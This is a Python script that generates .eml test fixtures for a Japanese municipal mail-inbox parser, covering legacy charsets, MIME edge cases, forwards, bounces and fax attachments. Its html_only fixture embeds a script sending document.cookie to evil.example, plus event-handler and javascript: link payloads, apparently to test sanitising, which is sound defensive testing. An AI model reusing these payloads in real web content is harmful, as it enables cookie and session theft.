"""Build the .eml fixtures in tests/inbox/mails/ byte for byte as real clients send them.

Run ``python tests/inbox/make_mails.py`` to regenerate; the tests check the committed files
still match this script. The 30 MB attachment mail is not committed: tests build it at runtime
with ``big_attachment_mail``.
"""

from __future__ import annotations

import base64
import binascii
import quopri
import struct
import sys
from pathlib import Path

MAILS = Path(__file__).resolve().parent / "mails"
CRLF = b"\r\n"


def sjis_to_jis(data: bytes) -> bytes:
    """CP932 bytes to the JIS X 0208 byte pairs Outlook (CP50221) writes inside ISO-2022-JP."""
    out = bytearray()
    i = 0
    kanji = False
    while i < len(data):
        s1 = data[i]
        if s1 < 0x80:
            if kanji:
                out += b"\x1b(B"
                kanji = False
            out.append(s1)
            i += 1
            continue
        s2 = data[i + 1]
        if not kanji:
            out += b"\x1b$B"
            kanji = True
        row_base = s1 - (0x70 if s1 <= 0x9F else 0xB0)
        j1 = row_base * 2 - 1
        if s2 >= 0x9F:
            j1 += 1
            j2 = s2 - 0x7E
        else:
            j2 = s2 - (0x20 if s2 >= 0x80 else 0x1F)
        out += bytes((j1, j2))
        i += 2
    if kanji:
        out += b"\x1b(B"
    return bytes(out)


def jis(text: str) -> bytes:
    """Text as Outlook encodes ISO-2022-JP (CP932 extensions included), line by line."""
    return b"\r\n".join(sjis_to_jis(line.encode("cp932")) for line in text.split("\n"))


def b_word(charset: str, data: bytes) -> bytes:
    return b"=?" + charset.encode() + b"?B?" + base64.b64encode(data) + b"?="


def crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode("ascii")


def wrap64(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return CRLF.join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


OUTLOOK_SUBJECT = "①㈱髙橋工務店の件について"
OUTLOOK_BODY = (
    "ご担当者様\n\n"
    "いつもお世話になっております。㈱髙橋工務店の髙橋です。\n"
    "①道路占用許可の申請について\n"
    "②必要書類について\n"
    "ご確認をお願いいたします。\n"
)
OUTLOOK_ATTACHMENT = "申請書①.pdf"


def outlook_iso2022jp() -> bytes:
    head = (
        b'From: "=?iso-2022-jp?B?'
        + base64.b64encode(jis("髙橋 一郎"))
        + b'?=" <ichiro@takahashi-koumuten.example.co.jp>\r\n'
        + b"To: <soudan@city.example.lg.jp>\r\n"
        + b"Subject: "
        + b_word("iso-2022-jp", jis(OUTLOOK_SUBJECT))
        + b"\r\n"
        + crlf(
            "Date: Tue, 9 Apr 2024 09:15:32 +0900\n"
            "Message-ID: <000001da8a1b$4c3e2a10$e4ba7e30$@takahashi-koumuten.example.co.jp>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: multipart/mixed;\n"
            '\tboundary="----=_NextPart_000_0001_01DA8A66.BC26D210"\n'
            "X-Mailer: Microsoft Outlook 16.0\n"
            "Thread-Index: AdqKGz4vJ8Yb1t0FQXi1mZ2b0v7dWQ==\n"
            "Content-Language: ja\n"
            "\n"
            "This is a multipart message in MIME format.\n"
            "\n"
            "------=_NextPart_000_0001_01DA8A66.BC26D210\n"
            'Content-Type: text/plain;\n\tcharset="iso-2022-jp"\n'
            "Content-Transfer-Encoding: 7bit\n"
            "\n"
        )
        + jis(OUTLOOK_BODY)
        + CRLF
        + crlf(
            "\n------=_NextPart_000_0001_01DA8A66.BC26D210\n"
            'Content-Type: application/pdf;\n\tname="'
        )
        + b_word("iso-2022-jp", jis(OUTLOOK_ATTACHMENT))
        + b'"\r\nContent-Transfer-Encoding: base64\r\n'
        + b'Content-Disposition: attachment;\r\n\tfilename="'
        + b_word("iso-2022-jp", jis(OUTLOOK_ATTACHMENT))
        + b'"\r\n\r\n'
        + wrap64(b"%PDF-1.4\n" + bytes(range(256)) * 4 + b"\n%%EOF\n")
        + crlf("\n\n------=_NextPart_000_0001_01DA8A66.BC26D210--\n")
    )
    return head


SJIS_SUBJECT = "住民票の写しの郵送請求について（①②）"
SJIS_BODY = (
    "市民課 御中\n\n住民票の写しを郵送で請求したいのですが、\n"
    "手数料は㈱や㈲の定額小為替で良いでしょうか。\n\n髙田 花子\n"
)


def sjis_windows31j() -> bytes:
    return (
        crlf("From: hanako.takada@example.ne.jp\nTo: shiminka@city.example.lg.jp\n")
        + b"Subject: "
        + b_word("Windows-31J", SJIS_SUBJECT.encode("cp932"))
        + CRLF
        + crlf(
            "Date: Wed, 10 Apr 2024 20:01:02 +0900\n"
            "Message-ID: <20240410200102.1234@example.ne.jp>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=Windows-31J\n"
            "Content-Transfer-Encoding: 8bit\n"
            "X-Mailer: Becky! ver. 2.81.04\n"
            "\n"
        )
        + SJIS_BODY.replace("\n", "\r\n").encode("cp932")
    )


XSJIS_BODY = "ごみ収集カレンダー①の配布場所を教えてください。\n髙島\n"


def sjis_xsjis() -> bytes:
    body = quopri.encodestring(XSJIS_BODY.replace("\n", "\r\n").encode("cp932"))
    return (
        crlf("From: takashima@example.jp\nTo: gomi@city.example.lg.jp\n")
        + b"Subject: "
        + b_word("x-sjis", "ごみカレンダー".encode("cp932"))
        + CRLF
        + crlf(
            "Date: Thu, 11 Apr 2024 07:00:00 +0900\n"
            "Message-ID: <x-sjis-1@example.jp>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: text/plain; charset="x-sjis"\n'
            "Content-Transfer-Encoding: quoted-printable\n"
            "\n"
        )
        + body
    )


EUC_SUBJECT = "国民健康保険の手続き"
EUC_BODY = "転入に伴う国民健康保険の加入手続きについて質問です。\n必要な書類を教えてください。\n"


def eucjp() -> bytes:
    return (
        crlf("From: user@example.org\nTo: kokuho@city.example.lg.jp\n")
        + b"Subject: "
        + b_word("EUC-JP", EUC_SUBJECT.encode("euc_jp"))
        + CRLF
        + crlf(
            "Date: Fri, 12 Apr 2024 12:34:56 +0900\n"
            "Message-ID: <euc-1@example.org>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=EUC-JP\n"
            "Content-Transfer-Encoding: 8bit\n"
            "X-Mailer: Sylpheed 3.7.0\n"
            "\n"
        )
        + EUC_BODY.encode("euc_jp")
    )


UTF8_BODY = "児童手当の申請について教えてください。🙇\n"


def utf8_base64() -> bytes:
    return (
        crlf(
            "From: =?UTF-8?B?"
            + base64.b64encode("佐藤 美咲".encode()).decode()
            + "?= <misaki@example.com>\n"
            "To: kosodate@city.example.lg.jp\n"
            "Subject: =?UTF-8?B?" + base64.b64encode("児童手当".encode()).decode() + "?=\n"
            "Date: Sat, 13 Apr 2024 08:00:00 +0000\n"
            "Message-ID: <CAF=utf8b64@mail.gmail.com>\n"
            "In-Reply-To: <reply-1@city.example.lg.jp>\n"
            "References: <first-1@example.com>\n <reply-1@city.example.lg.jp>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: text/plain; charset="UTF-8"\n'
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + wrap64(UTF8_BODY.encode())
        + CRLF
    )


UTF8_QP_BODY = (
    "保育園の入園申し込みの締め切りはいつですか？ "
    "長い行は quoted-printable のソフト改行で折り返されます。"
)


def utf8_qp() -> bytes:
    return (
        crlf(
            "From: parent@example.com\n"
            "To: hoiku@city.example.lg.jp\n"
            "Subject: =?utf-8?Q?" + "".join(f"={b:02X}" for b in "保育園".encode()) + "?=\n"
            "Date: Sun, 14 Apr 2024 10:00:00 +0900\n"
            "Message-ID: <qp-1@example.com>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "Content-Transfer-Encoding: quoted-printable\n"
            "\n"
        )
        + quopri.encodestring(UTF8_QP_BODY.encode()).replace(b"\n", CRLF)
        + CRLF
    )


NOCHARSET_CP932_SUBJECT = "粗大ごみの申し込み"
NOCHARSET_CP932_BODY = "粗大ごみの収集を申し込みたいです。\nタンス１点、㈱○○製の冷蔵庫①台です。\n"


def nocharset_cp932() -> bytes:
    return (
        crlf("From: oldclient@example.jp\nTo: gomi@city.example.lg.jp\n")
        + b"Subject: "
        + NOCHARSET_CP932_SUBJECT.encode("cp932")
        + CRLF
        + crlf("Date: Mon, 15 Apr 2024 09:00:00 +0900\nMessage-ID: <raw-sjis@example.jp>\n\n")
        + NOCHARSET_CP932_BODY.replace("\n", "\r\n").encode("cp932")
    )


NOCHARSET_JIS_SUBJECT = "ＪＩＳの件名です"
NOCHARSET_JIS_BODY = "ＭＩＭＥ宣言のない古いメールです。\n①番窓口へ\n"


def nocharset_iso2022jp() -> bytes:
    return (
        crlf("From: legacy@example.jp\nTo: info@city.example.lg.jp\n")
        + b"Subject: "
        + jis(NOCHARSET_JIS_SUBJECT)
        + CRLF
        + crlf(
            "Date: Mon, 15 Apr 2024 09:30:00 +0900\n"
            "Message-ID: <raw-jis@example.jp>\n"
            "Content-Type: text/plain\n\n"
        )
        + jis(NOCHARSET_JIS_BODY)
        + CRLF
    )


SPLIT_SUBJECT = "①転入届㈱髙橋様の住所変更"


def split_subject() -> bytes:
    encoded = jis(SPLIT_SUBJECT)
    # Cut inside characters: 4 bytes = ESC $ B + first byte of ①; then an odd offset again.
    first, second = 4, 13
    pieces = [encoded[:first], encoded[first:second], encoded[second:]]
    words = b"\r\n ".join(b_word("ISO-2022-JP", piece) for piece in pieces)
    return (
        crlf("From: split@example.jp\nTo: info@city.example.lg.jp\n")
        + b"Subject: "
        + words
        + CRLF
        + crlf(
            "Date: Tue, 16 Apr 2024 11:00:00 +0900\n"
            "Message-ID: <split@example.jp>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=ISO-2022-JP\n"
            "\n"
        )
        + jis("件名が三つの符号化語に分かれています。\n")
        + CRLF
    )


RFC2231_FILENAME = "ファイル名.pdf"
RFC2231_SECOND = "転入届の記入例（令和６年度版）.xlsx"


def rfc2231_filename() -> bytes:
    quoted = "".join(f"%{b:02X}" for b in RFC2231_FILENAME.encode())
    # Split between escapes but inside characters (each kana is three UTF-8 bytes).
    parts = [quoted[:21], quoted[21:39], quoted[39:]]
    jis_name = "".join(f"%{b:02X}" for b in jis(RFC2231_SECOND))
    jis_parts = [jis_name[:45], jis_name[45:]]  # 15 bytes: inside a JIS character pair
    return crlf(
        "From: thunderbird@example.jp\n"
        "To: info@city.example.lg.jp\n"
        "Subject: =?UTF-8?B?" + base64.b64encode("書類を送ります".encode()).decode() + "?=\n"
        "Date: Wed, 17 Apr 2024 13:00:00 +0900\n"
        "Message-ID: <rfc2231@example.jp>\n"
        "MIME-Version: 1.0\n"
        "User-Agent: Mozilla Thunderbird\n"
        'Content-Type: multipart/mixed; boundary="------------0Fh9Q2rfc2231"\n'
        "\n"
        "--------------0Fh9Q2rfc2231\n"
        "Content-Type: text/plain; charset=UTF-8; format=flowed\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
        + base64.b64encode("添付の書類をご確認ください。\n".encode()).decode()
        + "\n\n--------------0Fh9Q2rfc2231\n"
        "Content-Type: application/pdf;\n"
        f" name*0*=UTF-8''{parts[0]};\n"
        f" name*1*={parts[1]};\n"
        f" name*2*={parts[2]}\n"
        "Content-Disposition: attachment;\n"
        f" filename*0*=UTF-8''{parts[0]};\n"
        f" filename*1*={parts[1]};\n"
        f" filename*2*={parts[2]}\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
        + base64.b64encode(b"%PDF-1.7\n" + b"x" * 1000 + b"\n%%EOF\n").decode()
        + "\n\n--------------0Fh9Q2rfc2231\n"
        "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\n"
        "Content-Disposition: attachment;\n"
        f" filename*0*=ISO-2022-JP'ja'{jis_parts[0]};\n"
        f" filename*1*={jis_parts[1]}\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
        + base64.b64encode(b"PK\x03\x04" + b"\x00" * 300).decode()
        + "\n\n--------------0Fh9Q2rfc2231--\n"
    )


HTML_TEXT_LINES = ("マイナンバーカードの受け取り予約", "予約は平日のみです。")


def html_only() -> bytes:
    html = (
        "<!DOCTYPE html><html><head><title>秘密のタイトル</title>"
        "<style>p { color: red; } .x::after { content: 'スタイル' }</style>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "</head><body><!-- コメントは表示しない -->"
        f'<h1 onclick="alert(1)">{HTML_TEXT_LINES[0]}</h1>'
        f"<p>{HTML_TEXT_LINES[1]}<br>土日&amp;祝日は休み&nbsp;です。</p>"
        '<div onmouseover="steal()">窓口：<a href="javascript:alert(2)">市民課</a></div>'
        "<script type='text/javascript'>alert('二つ目')</script>"
        "<noscript>ノースクリプト</noscript></body></html>"
    )
    return (
        crlf(
            "From: webform@example.com\n"
            "To: info@city.example.lg.jp\n"
            "Subject: =?UTF-8?B?" + base64.b64encode("HTMLのみ".encode()).decode() + "?=\n"
            "Date: Thu, 18 Apr 2024 14:00:00 +0900\n"
            "Message-ID: <html-only@example.com>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/html; charset=UTF-8\n"
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + wrap64(html.encode())
        + CRLF
    )


ALT_PLAIN = "プレーンテキスト版の本文です。"
ALT_HTML = "HTML版の本文です。"


def alternative() -> bytes:
    return crlf(
        "From: =?UTF-8?B?"
        + base64.b64encode("田中".encode()).decode()
        + "?= <tanaka@gmail.example>\n"
        "To: info@city.example.lg.jp, =?UTF-8?B?"
        + base64.b64encode("市民課".encode()).decode()
        + "?= <shiminka@city.example.lg.jp>\n"
        "Subject: alternative\n"
        "Date: Fri, 19 Apr 2024 15:00:00 +0900\n"
        "Message-ID: <CAalt@mail.gmail.com>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/alternative; boundary="000000000000abcdef0123456789"\n'
        "\n"
        "--000000000000abcdef0123456789\n"
        'Content-Type: text/plain; charset="UTF-8"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n" + base64.b64encode(ALT_PLAIN.encode()).decode() + "\n"
        "--000000000000abcdef0123456789\n"
        'Content-Type: text/html; charset="UTF-8"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n" + base64.b64encode(f"<div dir=ltr>{ALT_HTML}</div>".encode()).decode() + "\n"
        "--000000000000abcdef0123456789--\n"
    )


FWD_ORIGINAL_FROM = "鈴木 一郎 <ichiro.suzuki@example.ne.jp>"
FWD_ORIGINAL_SUBJECT = "道路の陥没について①"
FWD_ORIGINAL_BODY = "○○町の市道に陥没があります。危険なので対応をお願いします。\n"


def forward_rfc822() -> bytes:
    inner = (
        b"From: "
        + b_word("ISO-2022-JP", jis("鈴木 一郎"))
        + b" <ichiro.suzuki@example.ne.jp>\r\nTo: doboku@city.example.lg.jp\r\nSubject: "
        + b_word("ISO-2022-JP", jis(FWD_ORIGINAL_SUBJECT))
        + crlf(
            "\nDate: Mon, 22 Apr 2024 08:10:00 +0900\n"
            "Message-ID: <orig-1@example.ne.jp>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=ISO-2022-JP\n"
            "Content-Transfer-Encoding: 7bit\n\n"
        )
        + jis(FWD_ORIGINAL_BODY)
        + CRLF
    )
    outer_note = "市民の方からのメールを転送します。\n土木課 山本\n"
    return (
        crlf(
            "From: yamamoto@city.example.lg.jp\n"
            "To: soudan@city.example.lg.jp\n"
            "Subject: =?ISO-2022-JP?B?"
        )
        + base64.b64encode(jis("転送: " + FWD_ORIGINAL_SUBJECT))
        + crlf(
            "?=\nDate: Mon, 22 Apr 2024 09:00:00 +0900\n"
            "Message-ID: <fwd-1@city.example.lg.jp>\n"
            "MIME-Version: 1.0\n"
            "X-Mailer: Active! mail\n"
            'Content-Type: multipart/mixed; boundary="ACTIVEMAIL-BOUNDARY-0042"\n'
            "\n"
            "--ACTIVEMAIL-BOUNDARY-0042\n"
            "Content-Type: text/plain; charset=ISO-2022-JP\n"
            "Content-Transfer-Encoding: 7bit\n\n"
        )
        + jis(outer_note)
        + crlf(
            "\n--ACTIVEMAIL-BOUNDARY-0042\n"
            'Content-Type: message/rfc822; name="forward.eml"\n'
            "Content-Disposition: attachment\n\n"
        )
        + inner
        + crlf("\n--ACTIVEMAIL-BOUNDARY-0042--\n")
    )


INLINE_ORIGINAL_FROM = "小林 さくら <sakura@example.jp>"
INLINE_ORIGINAL_SUBJECT = "児童館の利用時間"


def forward_inline_outlook() -> bytes:
    body = (
        "各位\n\n下記の問い合わせを転送します。\n\n"
        "-----元のメッセージ-----\n"
        f"差出人: {INLINE_ORIGINAL_FROM}\n"
        "送信日時: 2024年4月23日 10:05\n"
        "宛先: 子育て支援課 <kosodate@city.example.lg.jp>\n"
        f"件名: {INLINE_ORIGINAL_SUBJECT}\n\n"
        "児童館は何時まで利用できますか。\n"
    )
    return (
        crlf("From: staff@city.example.lg.jp\nTo: soudan@city.example.lg.jp\nSubject: ")
        + b_word("iso-2022-jp", jis("FW: " + INLINE_ORIGINAL_SUBJECT))
        + crlf(
            "\nDate: Tue, 23 Apr 2024 10:30:00 +0900\n"
            "Message-ID: <000101da9500$fwd$@city.example.lg.jp>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: text/plain; charset="iso-2022-jp"\n'
            "Content-Transfer-Encoding: 7bit\n"
            "X-Mailer: Microsoft Outlook 16.0\n\n"
        )
        + jis(body)
        + CRLF
    )


def autoreply() -> bytes:
    return (
        crlf("From: busy@example.co.jp\nTo: soudan@city.example.lg.jp\nSubject: ")
        + b_word("iso-2022-jp", jis("自動応答: Re: ご質問の件"))
        + crlf(
            "\nDate: Wed, 24 Apr 2024 18:00:00 +0900\n"
            "Message-ID: <auto-1@example.co.jp>\n"
            "In-Reply-To: <reply-9@city.example.lg.jp>\n"
            "Auto-Submitted: auto-replied\n"
            "X-Auto-Response-Suppress: All\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=iso-2022-jp\n\n"
        )
        + jis("ただいま不在にしております。5月7日以降に返信いたします。\n")
        + CRLF
    )


def dsn_bounce() -> bytes:
    return crlf(
        "Return-Path: <>\n"
        "From: MAILER-DAEMON@mx.city.example.lg.jp (Mail Delivery System)\n"
        "To: soudan@city.example.lg.jp\n"
        "Subject: Undelivered Mail Returned to Sender\n"
        "Date: Thu, 25 Apr 2024 03:00:00 +0900 (JST)\n"
        "Message-ID: <20240425030000.ABC123@mx.city.example.lg.jp>\n"
        "Auto-Submitted: auto-replied\n"
        "MIME-Version: 1.0\n"
        "Content-Type: multipart/report; report-type=delivery-status;\n"
        '\tboundary="ABC123.1714000000/mx.city.example.lg.jp"\n'
        "\n"
        "This is a MIME-encapsulated message.\n"
        "\n"
        "--ABC123.1714000000/mx.city.example.lg.jp\n"
        "Content-Description: Notification\n"
        "Content-Type: text/plain; charset=us-ascii\n"
        "\n"
        "This is the mail system at host mx.city.example.lg.jp.\n"
        "\n"
        "I'm sorry to have to inform you that your message could not\n"
        "be delivered to one or more recipients.\n"
        "\n"
        "<nobody@example.invalid>: Host or domain name not found.\n"
        "\n"
        "--ABC123.1714000000/mx.city.example.lg.jp\n"
        "Content-Description: Delivery report\n"
        "Content-Type: message/delivery-status\n"
        "\n"
        "Reporting-MTA: dns; mx.city.example.lg.jp\n"
        "\n"
        "Final-Recipient: rfc822; nobody@example.invalid\n"
        "Action: failed\n"
        "Status: 5.4.4\n"
        "\n"
        "--ABC123.1714000000/mx.city.example.lg.jp\n"
        "Content-Description: Undelivered Message\n"
        "Content-Type: message/rfc822\n"
        "\n"
        "From: soudan@city.example.lg.jp\n"
        "To: nobody@example.invalid\n"
        "Subject: Re: test\n"
        "Message-ID: <reply-5@city.example.lg.jp>\n"
        "\n"
        "body\n"
        "\n"
        "--ABC123.1714000000/mx.city.example.lg.jp--\n"
    )


def list_mail() -> bytes:
    return (
        crlf(
            "From: news@lists.example.org\n"
            "To: soudan@city.example.lg.jp\n"
            "Subject: [kouhou:0123] =?UTF-8?B?"
            + base64.b64encode("広報メール".encode()).decode()
            + "?=\n"
            "Date: Fri, 26 Apr 2024 06:00:00 +0900\n"
            "Message-ID: <list-1@lists.example.org>\n"
            "List-Id: <kouhou.lists.example.org>\n"
            "List-Unsubscribe: <mailto:kouhou-unsubscribe@lists.example.org>\n"
            "Precedence: list\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=UTF-8\n"
            "Content-Transfer-Encoding: 8bit\n\n"
        )
        + "今月の広報です。\r\n".encode()
    )


BROKEN_TEXT = "壊れたメールでも読める部分は表示します。"


def broken_mime() -> bytes:
    return crlf(
        "From: broken@example.jp\n"
        "To: info@city.example.lg.jp\n"
        "Subject: broken\n"
        "Date: not a date at all\n"
        "Message-ID: <broken@example.jp>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="BROKEN"\n'
        "\n"
        "--BROKEN\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "\n" + "".join(f"={b:02X}" for b in BROKEN_TEXT.encode()) + " =ZZ bad soft break=\n"
        "\n"
        "--BROKEN\n"
        'Content-Type: application/octet-stream; name="data.bin"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n"
        "QUJD!!REVG*R0hJ\n"
        "SktM=\n"
        "--BROKEN\n"
        'Content-Type: image/png; name="cut.png"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\n"
    )


UNKNOWN_CHARSET_TEXT = "文字コード名が不明なメールです。"


def unknown_charset() -> bytes:
    return (
        crlf("From: odd@example.jp\nTo: info@city.example.lg.jp\nSubject: =?x-unknown?B?")
        + base64.b64encode("不明".encode("cp932"))
        + crlf(
            "?=\nDate: Sat, 27 Apr 2024 10:00:00 +0900\n"
            "Message-ID: <unknown-cs@example.jp>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: text/plain; charset="x-unknown"\n'
            "Content-Transfer-Encoding: 8bit\n\n"
        )
        + UNKNOWN_CHARSET_TEXT.encode("cp932")
        + CRLF
    )


def tiff_page(*, width: int = 1728, height: int = 2) -> bytes:
    """A minimal valid little-endian one-strip bilevel TIFF."""
    row_bytes = (width + 7) // 8
    pixels = b"\x00" * (row_bytes * height)
    entries = [
        (256, 3, 1, width),
        (257, 3, 1, height),
        (258, 3, 1, 1),
        (259, 3, 1, 1),
        (262, 3, 1, 0),
        (273, 4, 1, 0),  # patched below
        (278, 3, 1, height),
        (279, 4, 1, len(pixels)),
    ]
    ifd_offset = 8
    ifd_size = 2 + len(entries) * 12 + 4
    data_offset = ifd_offset + ifd_size
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        if tag == 273:
            value = data_offset
        packed = struct.pack("<HH", kind, 0)[:0]
        if kind == 3:
            ifd += struct.pack("<HHIHH", tag, kind, count, value, 0) + packed
        else:
            ifd += struct.pack("<HHII", tag, kind, count, value)
    ifd += struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", ifd_offset) + ifd + pixels


def fax_mail(tiff: bytes, name: str) -> bytes:
    return (
        crlf(
            "From: fax-gateway@city.example.lg.jp\n"
            "To: fax@city.example.lg.jp\n"
            "Subject: FAX from 0339811111\n"
            "Date: Sun, 28 Apr 2024 02:00:00 +0900\n"
            "Message-ID: <fax-" + name + "@city.example.lg.jp>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="FAXB"\n\n'
            "--FAXB\n"
            "Content-Type: text/plain; charset=us-ascii\n\n"
            "Fax received: 1 page\n"
            "--FAXB\n"
            f'Content-Type: image/tiff; name="{name}"\n'
            "Content-Transfer-Encoding: base64\n"
            f'Content-Disposition: attachment; filename="{name}"\n\n'
        )
        + wrap64(tiff)
        + crlf("\n--FAXB--\n")
    )


def corrupt_tiff() -> bytes:
    return fax_mail(tiff_page()[:60], "fax-corrupt.tif")


def good_tiff() -> bytes:
    return fax_mail(tiff_page(), "fax-good.tif")


def mail_loop() -> bytes:
    received = "".join(
        f"Received: from mx{i}.example.jp (mx{i}.example.jp [192.0.2.{i % 250 + 1}])\n"
        f"\tby mx{i + 1}.example.jp with ESMTP id L{i:04d};"
        f" Mon, 29 Apr 2024 10:00:{i % 60:02d} +0900\n"
        for i in range(40)
    )
    return crlf(
        received + "X-Loop: soudan@city.example.lg.jp\n"
        "From: soudan@city.example.lg.jp\n"
        "To: soudan@city.example.lg.jp\n"
        "Subject: Re: Re: Re: Re: loop\n"
        "Date: Mon, 29 Apr 2024 10:00:00 +0900\n"
        "Message-ID: <loop@city.example.lg.jp>\n"
        "\n"
        "loop body\n"
    )


def big_attachment_mail(size: int = 30 * 1024 * 1024) -> bytes:
    """A Thunderbird-style mail with a ``size``-byte PDF (built at test time, never committed)."""
    payload = (b"%PDF-1.7\n" + bytes(range(256)) * (size // 256 + 1))[:size]
    encoded = binascii.b2a_base64(payload, newline=False)
    lines = CRLF.join(encoded[i : i + 76] for i in range(0, len(encoded), 76))
    return (
        crlf(
            "From: big@example.jp\nTo: info@city.example.lg.jp\n"
            "Subject: =?UTF-8?B?" + base64.b64encode("大きな添付".encode()).decode() + "?=\n"
            "Date: Tue, 30 Apr 2024 10:00:00 +0900\n"
            "Message-ID: <big@example.jp>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="BIGB"\n\n'
            "--BIGB\nContent-Type: text/plain; charset=UTF-8\n\n"
        )
        + "大きな図面を添付します。\r\n".encode()
        + crlf(
            "--BIGB\n"
            'Content-Type: application/pdf; name="zumen.pdf"\n'
            "Content-Transfer-Encoding: base64\n"
            'Content-Disposition: attachment; filename="zumen.pdf"\n\n'
        )
        + lines
        + crlf("\n--BIGB--\n")
    )


BUILDERS = {
    "outlook_iso2022jp.eml": outlook_iso2022jp,
    "sjis_windows31j.eml": sjis_windows31j,
    "sjis_xsjis.eml": sjis_xsjis,
    "eucjp.eml": eucjp,
    "utf8_base64.eml": utf8_base64,
    "utf8_qp.eml": utf8_qp,
    "nocharset_cp932.eml": nocharset_cp932,
    "nocharset_iso2022jp.eml": nocharset_iso2022jp,
    "split_subject.eml": split_subject,
    "rfc2231_filename.eml": rfc2231_filename,
    "html_only.eml": html_only,
    "alternative.eml": alternative,
    "forward_rfc822.eml": forward_rfc822,
    "forward_inline_outlook.eml": forward_inline_outlook,
    "autoreply.eml": autoreply,
    "dsn_bounce.eml": dsn_bounce,
    "list_mail.eml": list_mail,
    "broken_mime.eml": broken_mime,
    "unknown_charset.eml": unknown_charset,
    "corrupt_tiff.eml": corrupt_tiff,
    "good_tiff.eml": good_tiff,
    "mail_loop.eml": mail_loop,
}


def main() -> int:
    MAILS.mkdir(exist_ok=True)
    for name, build in BUILDERS.items():
        (MAILS / name).write_bytes(build())
    print(f"wrote {len(BUILDERS)} mails to {MAILS}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
